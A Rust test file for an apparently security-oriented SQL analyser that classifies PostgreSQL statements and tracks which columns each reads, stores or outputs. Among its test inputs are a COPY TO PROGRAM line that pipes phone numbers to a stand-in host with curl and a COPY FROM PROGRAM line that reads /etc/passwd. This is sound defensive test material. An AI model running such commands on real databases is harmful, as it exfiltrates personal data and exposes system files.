//! Statement kinds and the facts each statement carries.

use super::*;
use crate::analysis::{
    AnalysisError, CopyEndpoint, CopyFormat, CopyOptions, DdlKind, StatementKind as K,
};

const ID: ColumnId = ColumnId {
    rel: USERS,
    attnum: 1,
};
const EMAIL: ColumnId = ColumnId {
    rel: USERS,
    attnum: 2,
};
const NAME: ColumnId = ColumnId {
    rel: USERS,
    attnum: 3,
};
const PHONE: ColumnId = ColumnId {
    rel: USERS,
    attnum: 5,
};
const O_USER: ColumnId = ColumnId {
    rel: ORDERS,
    attnum: 2,
};
const O_STATUS: ColumnId = ColumnId {
    rel: ORDERS,
    attnum: 4,
};

fn kind(sql: &str) -> K {
    one(sql).kind
}

#[test]
fn insert_select_stores_the_values() {
    let f =
        one("INSERT INTO orders (status, user_id) SELECT email, id FROM users WHERE phone IS NULL");
    assert_eq!(f.kind, K::Insert);
    assert_eq!(f.writes, [ORDERS].into());
    assert_eq!(f.reads, [USERS].into());
    assert_eq!(f.stored, set(&[EMAIL, ID]));
    assert_eq!(f.predicates, set(&[PHONE]));
    assert!(f.outputs.is_empty());
}

#[test]
fn insert_values_with_returning_and_on_conflict() {
    let f = one(
        "INSERT INTO users (id, email) VALUES ($1, $2), (DEFAULT, (SELECT status FROM orders LIMIT 1)) \
         ON CONFLICT (id) DO UPDATE SET phone = EXCLUDED.email WHERE users.full_name IS NULL RETURNING *",
    );
    assert_eq!(f.stored, set(&[O_STATUS]));
    assert_eq!(f.outputs.len(), 5);
    assert_eq!(f.outputs[1].lineage, set(&[EMAIL, O_STATUS]));
    assert_eq!(f.outputs[1].direct, Some(EMAIL));
    assert_eq!(f.outputs[4].lineage, set(&[PHONE, O_STATUS]));
    assert!(f.reads.contains(&USERS));
    assert!(f.predicates.contains(&NAME));
    assert!(matches!(
        err("INSERT INTO users (nope) VALUES (1)"),
        AnalysisError::UnknownColumn(_)
    ));
}

#[test]
fn insert_into_partitioned_table_writes_partitions() {
    let f = one("INSERT INTO events (id) VALUES (1)");
    assert_eq!(f.writes, [EVENTS, EVENTS_2024].into());
}

#[test]
fn update_set_stores_expressions() {
    let f = one(
        "UPDATE orders o SET status = u.email || o.status FROM users u \
         WHERE u.id = o.user_id RETURNING o.status, u.phone",
    );
    assert_eq!(f.kind, K::Update);
    assert_eq!(f.writes, [ORDERS].into());
    assert_eq!(f.stored, set(&[EMAIL, O_STATUS]));
    assert_eq!(f.predicates, set(&[ID, O_USER]));
    assert_eq!(f.outputs[0].lineage, set(&[EMAIL, O_STATUS]));
    assert_eq!(f.outputs[1].direct, Some(PHONE));
}

#[test]
fn delete_using_returning() {
    let f = one(
        "DELETE FROM orders o USING users u WHERE u.id = o.user_id AND u.email = $1 RETURNING o.*",
    );
    assert_eq!(f.kind, K::Delete);
    assert_eq!(f.writes, [ORDERS].into());
    assert_eq!(f.outputs.len(), 4);
    assert_eq!(f.predicates, set(&[ID, O_USER, EMAIL]));
}

#[test]
fn merge_stores_inserted_and_updated_values() {
    let f = one("MERGE INTO orders o USING users u ON o.user_id = u.id \
         WHEN MATCHED THEN UPDATE SET status = u.phone \
         WHEN NOT MATCHED THEN INSERT (user_id, status) VALUES (u.id, u.email)");
    assert_eq!(f.kind, K::Merge);
    assert_eq!(f.writes, [ORDERS].into());
    assert_eq!(f.stored, set(&[PHONE, ID, EMAIL]));
}

#[test]
fn truncate_writes_targets() {
    let f = one("TRUNCATE users, ONLY events");
    assert_eq!(f.kind, K::Truncate);
    assert_eq!(f.writes, [USERS, EVENTS].into());
}

#[test]
fn create_table_as_and_select_into_store() {
    let f = one("CREATE TABLE x AS SELECT email, lower(phone) FROM users");
    assert_eq!(f.kind, K::CreateTableAs);
    assert_eq!(f.stored, set(&[EMAIL, PHONE]));
    assert!(f.outputs.is_empty() && f.writes.is_empty());
    let f = one("SELECT email, phone INTO TEMP x FROM users");
    assert_eq!(f.kind, K::CreateTableAs);
    assert_eq!(f.stored, set(&[EMAIL, PHONE]));
    assert!(f.outputs.is_empty());
    assert!(matches!(
        err("SELECT (SELECT 1 INTO y) FROM users"),
        AnalysisError::Unsupported(_)
    ));
}

#[test]
fn materialized_views_create_and_refresh() {
    let f = one("CREATE MATERIALIZED VIEW m AS SELECT full_name FROM users");
    assert_eq!(f.kind, K::MaterializedView);
    assert_eq!(f.stored, set(&[NAME]));
    let f = one("REFRESH MATERIALIZED VIEW CONCURRENTLY mv_user_orders");
    assert_eq!(f.kind, K::MaterializedView);
    assert_eq!(f.stored, set(&[ID, c(ORDERS, 1)]));
    assert_eq!(f.writes, [MV_ORDERS].into());
    assert!(f.reads.contains(&USERS) && f.reads.contains(&ORDERS));
    assert!(f.functions.iter().any(|x| x.name == "count"));
}

#[test]
fn copy_table_to_client() {
    let f = one("COPY users (email, id) TO STDOUT WITH (FORMAT csv, HEADER)");
    assert_eq!(
        f.kind,
        K::CopyTo {
            to: CopyEndpoint::Client,
            format: CopyFormat::Csv,
            options: CopyOptions {
                header: true,
                ..CopyOptions::default()
            }
        }
    );
    assert_eq!(out_names(&f), ["email", "id"]);
    assert_eq!(f.outputs[0].direct, Some(EMAIL));
    assert_eq!(f.reads, [USERS].into());
    let f = one("COPY users TO STDOUT");
    assert_eq!(f.outputs.len(), 5);
    assert!(matches!(
        f.kind,
        K::CopyTo {
            format: CopyFormat::Text,
            ..
        }
    ));
    let f = one("COPY users TO STDOUT WITH BINARY");
    assert!(matches!(
        f.kind,
        K::CopyTo {
            format: CopyFormat::Binary,
            ..
        }
    ));
}

#[test]
fn copy_options_that_shape_rows_are_kept() {
    let shape = |sql| match one(sql).kind {
        K::CopyTo {
            format, options, ..
        } => (format, options),
        other => panic!("{other:?}"),
    };
    assert_eq!(
        shape("COPY users TO STDOUT WITH (FORMAT csv, DELIMITER ';', NULL 'n/a', QUOTE '''', ESCAPE '\\', HEADER false)"),
        (
            CopyFormat::Csv,
            CopyOptions {
                delimiter: Some(';'),
                null: Some("n/a".into()),
                quote: Some('\''),
                escape: Some('\\'),
                ..CopyOptions::default()
            }
        )
    );
    assert_eq!(
        shape("COPY users TO STDOUT DELIMITER '|' NULL '' CSV HEADER QUOTE '\"'"),
        (
            CopyFormat::Csv,
            CopyOptions {
                delimiter: Some('|'),
                null: Some(String::new()),
                header: true,
                quote: Some('"'),
                ..CopyOptions::default()
            }
        )
    );
    assert_eq!(
        shape("COPY users TO STDOUT WITH (ENCODING 'LATIN1')")
            .1
            .encoding,
        Some("LATIN1".into())
    );
}

#[test]
fn copy_query_to_file_and_program() {
    let f = one("COPY (SELECT upper(email) FROM users) TO '/tmp/x.csv' CSV");
    assert_eq!(
        f.kind,
        K::CopyTo {
            to: CopyEndpoint::File("/tmp/x.csv".into()),
            format: CopyFormat::Csv,
            options: CopyOptions::default()
        }
    );
    assert_eq!(f.outputs[0].lineage, set(&[EMAIL]));
    let f = one("COPY users (phone) TO PROGRAM 'curl -d @- http://x' WITH (FORMAT binary)");
    assert_eq!(
        f.kind,
        K::CopyTo {
            to: CopyEndpoint::Program("curl -d @- http://x".into()),
            format: CopyFormat::Binary,
            options: CopyOptions::default()
        }
    );
}

#[test]
fn copy_from_writes() {
    let f = one("COPY orders FROM STDIN");
    assert_eq!(
        f.kind,
        K::CopyFrom {
            from: CopyEndpoint::Client,
            format: CopyFormat::Text
        }
    );
    assert_eq!(f.writes, [ORDERS].into());
    assert!(f.outputs.is_empty());
    let f = one("COPY orders FROM PROGRAM 'cat /etc/passwd'");
    assert!(matches!(
        f.kind,
        K::CopyFrom {
            from: CopyEndpoint::Program(_),
            ..
        }
    ));
}

#[test]
fn prepare_carries_inner_facts_and_execute_names() {
    let f = one("PREPARE q (int8) AS SELECT email FROM users WHERE id = $1");
    assert_eq!(
        f.kind,
        K::Prepare {
            name: "q".into(),
            inner: Box::new(K::Select)
        }
    );
    assert_eq!(f.outputs[0].direct, Some(EMAIL));
    assert_eq!(f.predicates, set(&[ID]));
    let f = one("EXECUTE Q(1, lower('X'))");
    assert_eq!(f.kind, K::Execute { name: "q".into() });
    assert_eq!(function_names(&f), ["lower"]);
    assert_eq!(
        kind("DEALLOCATE q"),
        K::Deallocate {
            name: Some("q".into())
        }
    );
    assert_eq!(kind("DEALLOCATE ALL"), K::Deallocate { name: None });
}

#[test]
fn declare_fetch_move_close() {
    let f = one("DECLARE c BINARY SCROLL CURSOR WITH HOLD FOR SELECT phone FROM users");
    assert_eq!(f.kind, K::Declare { name: "c".into() });
    assert_eq!(f.outputs[0].direct, Some(PHONE));
    assert_eq!(
        kind("FETCH 10 FROM c"),
        K::Fetch {
            name: "c".into(),
            is_move: false
        }
    );
    assert_eq!(
        kind("FETCH ALL IN \"C\""),
        K::Fetch {
            name: "C".into(),
            is_move: false
        }
    );
    assert_eq!(
        kind("FETCH c"),
        K::Fetch {
            name: "c".into(),
            is_move: false
        }
    );
    assert_eq!(
        kind("FETCH NEXT FROM c"),
        K::Fetch {
            name: "c".into(),
            is_move: false
        }
    );
    assert_eq!(
        kind("MOVE FORWARD 5 IN c"),
        K::Fetch {
            name: "c".into(),
            is_move: true
        }
    );
    assert_eq!(
        kind("CLOSE c"),
        K::CloseCursor {
            name: Some("c".into())
        }
    );
    assert_eq!(kind("CLOSE ALL"), K::CloseCursor { name: None });
}

#[test]
fn explain_has_inner_facts_but_no_outputs() {
    let f = one("EXPLAIN SELECT email FROM users WHERE phone = '1'");
    assert_eq!(f.kind, K::Explain { analyze: false });
    assert!(f.outputs.is_empty());
    assert_eq!(f.reads, [USERS].into());
    assert_eq!(f.predicates, set(&[PHONE]));
    assert_eq!(
        kind("EXPLAIN ANALYZE SELECT 1"),
        K::Explain { analyze: true }
    );
    assert_eq!(
        kind("EXPLAIN (ANALYZE, BUFFERS) SELECT 1"),
        K::Explain { analyze: true }
    );
    assert_eq!(
        kind("EXPLAIN (ANALYZE off) SELECT 1"),
        K::Explain { analyze: false }
    );
    let f = one("EXPLAIN ANALYZE INSERT INTO orders (status) SELECT email FROM users");
    assert_eq!(f.stored, set(&[EMAIL]));
    assert_eq!(f.writes, [ORDERS].into());
    assert!(matches!(
        err("EXPLAIN ANALYZE EXECUTE q"),
        AnalysisError::Unsupported(_)
    ));
}

#[test]
fn set_role_in_every_spelling() {
    for sql in [
        "SET ROLE admin",
        "SET LOCAL ROLE admin",
        "SET role = admin",
        "SET \"role\" TO admin",
        "RESET ROLE",
        "SET ROLE NONE",
    ] {
        assert_eq!(kind(sql), K::SetRole, "{sql}");
    }
    for sql in [
        "SET SESSION AUTHORIZATION admin",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET SESSION AUTHORIZATION",
        "set session_authorization = 'admin'",
        "RESET session_authorization",
    ] {
        assert_eq!(kind(sql), K::SetSessionAuthorization, "{sql}");
    }
}

#[test]
fn set_and_reset_settings() {
    assert_eq!(
        kind("SET search_path TO app, public"),
        K::Set {
            name: "search_path".into()
        }
    );
    assert_eq!(
        kind("SET LOCAL Search_Path = public"),
        K::Set {
            name: "search_path".into()
        }
    );
    assert_eq!(
        kind("SET TIME ZONE 'UTC'"),
        K::Set {
            name: "timezone".into()
        }
    );
    assert_eq!(
        kind("SET myapp.tenant = '3'"),
        K::Set {
            name: "myapp.tenant".into()
        }
    );
    assert_eq!(kind("RESET ALL"), K::Set { name: "all".into() });
    assert_eq!(
        kind("RESET work_mem"),
        K::Set {
            name: "work_mem".into()
        }
    );
    assert_eq!(kind("SHOW search_path"), K::Show);
    assert_eq!(
        kind("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE"),
        K::Transaction {
            ends: false,
            begins: false
        }
    );
}

#[test]
fn transactions_and_session_statements() {
    let transaction = |ends, begins| K::Transaction { ends, begins };
    for (sql, begins) in [
        ("BEGIN", true),
        ("START TRANSACTION READ ONLY", true),
        ("SAVEPOINT a", false),
        ("RELEASE SAVEPOINT a", false),
    ] {
        assert_eq!(kind(sql), transaction(false, begins), "{sql}");
    }
    for (sql, begins) in [
        ("COMMIT", false),
        ("END", false),
        ("ROLLBACK", false),
        ("ABORT", false),
        ("ROLLBACK TO SAVEPOINT a", false),
        ("COMMIT AND CHAIN", true),
        ("ROLLBACK AND CHAIN", true),
    ] {
        assert_eq!(kind(sql), transaction(true, begins), "{sql}");
    }
    assert_eq!(kind("LISTEN ch"), K::Listen);
    assert_eq!(kind("UNLISTEN *"), K::Listen);
    assert_eq!(kind("NOTIFY ch, 'x'"), K::Notify);
    assert_eq!(kind("DISCARD ALL"), K::Discard);
    assert_eq!(kind("DO $$ BEGIN PERFORM 1; END $$"), K::Do);
    assert_eq!(kind("LOCK TABLE users IN ACCESS EXCLUSIVE MODE"), K::Lock);
    for sql in [
        "VACUUM",
        "VACUUM ANALYZE users",
        "ANALYZE users",
        "CHECKPOINT",
        "CLUSTER users",
        "REINDEX TABLE users",
    ] {
        assert_eq!(kind(sql), K::Maintenance, "{sql}");
    }
    // `pg_dump --serializable-deferrable`, which sqlparser cannot read
    // (found by a red-team round: the dump was refused).
    for sql in [
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION NOT DEFERRABLE",
        // Modes without commas (red team: refused with analysis.parse).
        "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
        "BEGIN WORK READ ONLY NOT DEFERRABLE",
        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE",
    ] {
        let begins = !sql.starts_with("SET");
        assert_eq!(
            kind(sql),
            K::Transaction {
                ends: false,
                begins
            },
            "{sql}"
        );
    }
    for sql in [
        "SET TRANSACTION SNAPSHOT 'x', DEFERRABLE",
        "SET TRANSACTION DEFERRABLE, search_path = x",
        "START DEFERRABLE",
    ] {
        assert!(run(sql).is_err(), "{sql}");
    }
}

#[test]
fn call_is_a_kind_and_records_argument_functions() {
    let f = one("CALL do_things(lower('x'), (SELECT email FROM users LIMIT 1))");
    assert_eq!(f.kind, K::Call);
    assert_eq!(function_names(&f), ["lower"]);
    assert_eq!(f.predicates, set(&[EMAIL]));
}

#[test]
fn ddl_groups() {
    let s = |w: &str| K::Ddl(DdlKind::Structure(w.into()));
    let code = |w: &str| K::Ddl(DdlKind::Code(w.into()));
    let sec = |w: &str| K::Ddl(DdlKind::Security(w.into()));
    assert_eq!(kind("CREATE TABLE t (a int)"), s("CREATE TABLE"));
    assert_eq!(kind("ALTER TABLE users ADD COLUMN x int"), s("ALTER TABLE"));
    assert_eq!(kind("DROP TABLE users"), s("DROP TABLE"));
    assert_eq!(
        kind("CREATE INDEX ON users (lower(email))"),
        s("CREATE INDEX")
    );
    assert_eq!(kind("CREATE SEQUENCE s"), s("CREATE SEQUENCE"));
    assert_eq!(kind("ALTER SEQUENCE s RESTART"), s("ALTER SEQUENCE"));
    assert_eq!(kind("CREATE SCHEMA s"), s("CREATE SCHEMA"));
    assert_eq!(kind("CREATE TYPE t AS (a int)"), s("CREATE TYPE"));
    assert_eq!(kind("CREATE DOMAIN d AS int"), s("CREATE DOMAIN"));
    assert_eq!(kind("COMMENT ON TABLE users IS 'x'"), s("COMMENT"));
    assert_eq!(
        kind("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$"),
        code("CREATE FUNCTION")
    );
    assert_eq!(
        kind("CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$"),
        code("CREATE PROCEDURE")
    );
    assert_eq!(
        kind("CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()"),
        code("CREATE TRIGGER")
    );
    assert_eq!(
        kind("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()"),
        code("CREATE EVENT TRIGGER")
    );
    assert_eq!(
        kind("CREATE RULE r AS ON INSERT TO users DO INSTEAD NOTHING"),
        code("CREATE RULE")
    );
    assert_eq!(kind("CREATE EXTENSION dblink"), code("CREATE EXTENSION"));
    assert_eq!(
        kind("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw"),
        code("CREATE SERVER")
    );
    assert_eq!(
        kind("CREATE FOREIGN TABLE ft (a int) SERVER s"),
        code("CREATE FOREIGN TABLE")
    );
    assert_eq!(
        kind("CREATE PUBLICATION p FOR ALL TABLES"),
        code("CREATE PUBLICATION")
    );
    assert_eq!(
        kind("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p"),
        code("CREATE SUBSCRIPTION")
    );
    assert_eq!(
        kind("CREATE OR REPLACE TRUSTED LANGUAGE plx HANDLER h"),
        code("CREATE LANGUAGE")
    );
    assert_eq!(
        kind("CREATE POLICY p ON users USING (true)"),
        code("CREATE POLICY")
    );
    assert_eq!(
        kind("ALTER TABLE users ENABLE ROW LEVEL SECURITY"),
        code("ALTER TABLE ROW LEVEL SECURITY")
    );
    assert_eq!(
        kind("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x"),
        code("IMPORT FOREIGN SCHEMA")
    );
    assert_eq!(kind("CREATE ROLE bob"), sec("CREATE ROLE"));
    assert_eq!(kind("ALTER ROLE bob SUPERUSER"), sec("ALTER ROLE"));
    assert_eq!(kind("GRANT SELECT ON users TO bob"), sec("GRANT"));
    assert_eq!(kind("REVOKE SELECT ON users FROM bob"), sec("REVOKE"));
    assert_eq!(
        kind("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob"),
        sec("ALTER DEFAULT PRIVILEGES")
    );
    assert_eq!(
        kind("ALTER TABLE users OWNER TO bob"),
        sec("ALTER TABLE OWNER")
    );
    assert_eq!(
        kind("ALTER SYSTEM SET work_mem = '1MB'"),
        sec("ALTER SYSTEM")
    );
    assert_eq!(kind("ALTER DATABASE d SET x = 1"), sec("ALTER DATABASE"));
    assert_eq!(kind("CREATE DATABASE d"), sec("CREATE DATABASE"));
}

#[test]
fn unparsed_structure_ddl_that_could_move_data_is_refused() {
    for sql in [
        "CREATE TABLE x AS EXECUTE q",
        "CREATE TABLE x (LIKE users) PARTITION BY nonsense (",
        "ALTER SEQUENCE s AS bigint",
        "CREATE STATISTICS s (dependencies) ON email, phone FROM users",
    ] {
        assert!(matches!(err(sql), AnalysisError::Parse(_)), "{sql}");
    }
}

#[test]
fn create_view_records_reads_but_stores_nothing() {
    let f = one("CREATE VIEW v AS SELECT leak(email) FROM users");
    assert_eq!(f.kind, K::Ddl(DdlKind::Structure("CREATE VIEW".into())));
    assert_eq!(f.reads, [USERS].into());
    assert!(f.stored.is_empty() && f.outputs.is_empty());
    assert!(f
        .functions
        .iter()
        .any(|x| x.name == "leak" && x.user_defined));
}

#[test]
fn ddl_expressions_record_functions() {
    let f = one("CREATE INDEX i ON users (leak(email)) WHERE phone IS NOT NULL");
    assert!(f
        .functions
        .iter()
        .any(|x| x.name == "leak" && x.user_defined));
    assert_eq!(f.predicates, set(&[EMAIL, PHONE]));
    let f = one("ALTER TABLE users ALTER COLUMN email TYPE text USING leak(email)");
    assert!(f.functions.iter().any(|x| x.name == "leak"));
}

#[test]
fn data_modifying_cte_writes() {
    let f = one("WITH d AS (DELETE FROM users WHERE id = 1 RETURNING email) SELECT * FROM d");
    assert_eq!(f.kind, K::Select);
    assert_eq!(f.writes, [USERS].into());
    assert_eq!(f.outputs[0].direct, Some(EMAIL));
}

#[test]
fn with_before_dml_keeps_the_dml_kind() {
    let f =
        one("WITH x AS (SELECT email FROM users) INSERT INTO orders (status) SELECT email FROM x");
    assert_eq!(f.kind, K::Insert);
    assert_eq!(f.stored, set(&[EMAIL]));
    assert_eq!(f.writes, [ORDERS].into());
    let f = one(
        "WITH x AS (SELECT id FROM users) DELETE FROM orders WHERE user_id IN (SELECT id FROM x)",
    );
    assert_eq!(f.kind, K::Delete);
}

#[test]
fn table_command_is_select_star() {
    let f = one("TABLE users");
    assert_eq!(f.kind, K::Select);
    assert_eq!(f.outputs.len(), 5);
}

#[test]
fn empty_input_is_one_empty_statement() {
    for sql in ["", "   ", "-- just a comment", "/* block */", ";", " ; ;"] {
        let f = run(sql).unwrap();
        assert_eq!(f.statements.len(), 1, "{sql:?}");
        assert_eq!(f.statements[0].kind, K::Empty, "{sql:?}");
    }
}

#[test]
fn multi_statement_strings_give_facts_in_order() {
    let f = run("BEGIN; SELECT email FROM users; UPDATE orders SET status = 'x'; COMMIT;").unwrap();
    let kinds: Vec<&K> = f.statements.iter().map(|s| &s.kind).collect();
    assert_eq!(
        kinds,
        [
            &K::Transaction {
                ends: false,
                begins: true
            },
            &K::Select,
            &K::Update,
            &K::Transaction {
                ends: true,
                begins: false
            }
        ]
    );
    assert_eq!(f.statements[1].outputs[0].direct, Some(EMAIL));
    assert!(f.statements[2].reads.contains(&ORDERS));
    assert!(!f.statements[2].reads.contains(&USERS));
    let f = run("SELECT 1; CHECKPOINT; MOVE c").unwrap();
    assert_eq!(f.statements.len(), 3);
    assert_eq!(f.statements[1].kind, K::Maintenance);
}

#[test]
fn parse_errors_carry_the_message() {
    let e = err("SELEC email FROM users");
    assert!(
        matches!(&e, AnalysisError::Parse(m) if m.contains("SELEC")),
        "{e:?}"
    );
    assert!(matches!(err("SELECT 1; SELEC 2"), AnalysisError::Parse(_)));
    assert!(matches!(
        err("SELECT 'unterminated"),
        AnalysisError::Parse(_)
    ));
}

#[test]
fn unsupported_statements_name_themselves() {
    let e = err("SHOW TABLES");
    assert!(
        matches!(&e, AnalysisError::Unsupported(m) if m.contains("ShowTables")),
        "{e:?}"
    );
}

#[test]
fn copy_force_quote_is_kept_with_star_and_column_lists() {
    use crate::analysis::CopyForceQuote;
    let force = |sql| match one(sql).kind {
        K::CopyTo { options, .. } => options.force_quote,
        other => panic!("{other:?}"),
    };
    let all = Some(CopyForceQuote::All);
    assert_eq!(
        force("COPY users TO STDOUT (FORMAT csv, FORCE_QUOTE *)"),
        all
    );
    assert_eq!(
        force(
            "COPY (SELECT email, id FROM users) TO STDOUT WITH (FORMAT csv, FORCE_QUOTE *, HEADER)"
        ),
        all
    );
    assert_eq!(force("COPY users TO STDOUT WITH CSV FORCE QUOTE *"), all);
    assert_eq!(
        force("COPY users TO STDOUT (FORMAT csv, FORCE_QUOTE (Email, \"Id\"))"),
        Some(CopyForceQuote::Columns(vec!["email".into(), "Id".into()]))
    );
    assert_eq!(
        force("COPY users TO STDOUT CSV FORCE QUOTE email, id"),
        Some(CopyForceQuote::Columns(vec!["email".into(), "id".into()]))
    );
    assert_eq!(
        force("COPY users TO STDOUT (FORMAT csv, FORCE_QUOTE (\"*\"))"),
        Some(CopyForceQuote::Columns(vec!["*".into()])),
        "a quoted \"*\" is a column name"
    );
    assert_eq!(force("COPY users TO STDOUT (FORMAT csv)"), None);
    assert_eq!(one("SELECT 2 * 3").outputs.len(), 1, "no COPY, no change");
}
